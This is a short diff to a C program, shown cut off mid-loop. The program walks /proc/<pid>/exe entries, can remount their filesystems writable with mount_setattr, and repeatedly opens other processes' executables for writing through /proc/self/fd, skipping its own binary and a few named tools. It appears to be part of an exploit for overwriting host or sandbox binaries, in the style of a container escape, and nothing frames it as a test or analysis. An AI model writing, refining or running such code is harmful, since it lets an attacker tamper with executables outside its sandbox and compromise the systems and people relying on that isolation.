@@ -174,8 +174,9 @@ int main(int argc, char **argv) {
             snprintf(path, sizeof path, "/proc/%d/exe", pid);
             int fd = open(path, O_PATH);
             if (fd < 0) continue;
-            char name[300] = {0};
-            readlink(path, name, sizeof name - 1);
+            char name[300] = {0}, self[64];
+            snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+            readlink(self, name, sizeof name - 1);
             fstat(fd, &other);
             if (own.st_ino == other.st_ino || strstr(name, "busybox")) { close(fd); continue; }
             if (strstr(name, "metactl-exec")) { close(fd); continue; }
@@ -184,8 +185,6 @@ int main(int argc, char **argv) {
             if (remount &&
                 syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof attr) == 0)
                 printf("made writable %s\n", name);
-            char self[64];
-            snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
             for (int i = 0; i < 2000; i++) {
                 int w = open(self, O_WRONLY);
                 if (w >= 0) {
